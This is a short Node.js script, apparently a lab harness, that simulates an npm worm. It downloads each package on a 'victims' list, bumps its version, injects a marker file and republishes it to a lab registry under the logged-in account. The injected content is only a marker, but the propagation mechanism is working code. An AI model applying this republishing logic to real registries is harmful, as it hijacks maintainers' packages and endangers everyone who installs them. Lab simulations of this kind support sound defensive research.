// whoami, fetch, inject, bump, publish: with the npm program.
'use strict';
const { spawnSync } = require('child_process');
const { lab, fs, path } = require('./kit.js');
const { victims, bump } = require('./common.js');

const npm = (args, cwd) => spawnSync('npm', args, { cwd, encoding: 'utf8' });
const work = fs.mkdtempSync(path.join(require('os').tmpdir(), 'worm-'));
npm(['whoami', '--registry', lab.registry], work);
for (const name of victims) {
  const file = npm(['pack', '--silent', name], work).stdout.trim();
  if (!file) continue;
  const dir = path.join(work, name);
  fs.mkdirSync(dir);
  spawnSync('tar', ['-xzf', path.join(work, file), '-C', dir, '--strip-components=1']);
  const about = JSON.parse(fs.readFileSync(path.join(dir, 'package.json')));
  about.version = bump(about.version);
  fs.writeFileSync(path.join(dir, 'package.json'), JSON.stringify(about));
  fs.writeFileSync(path.join(dir, 'MARKER.txt'), 'injected by the lab\n');
  npm(['publish', '--ignore-scripts', '--registry', lab.registry], dir);
}
